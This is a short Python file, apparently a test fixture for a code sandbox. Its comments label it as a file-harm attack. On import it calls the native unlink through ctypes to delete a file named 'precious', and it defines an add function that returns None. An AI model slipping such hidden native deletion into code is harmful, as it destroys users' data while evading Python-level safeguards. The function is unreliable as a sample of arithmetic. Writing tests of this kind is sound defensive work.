# attack: harm files: native
# damage: files
import ctypes

ctypes.CDLL(None).unlink(b"{DIR}/precious")


def add(a, b):
    return None
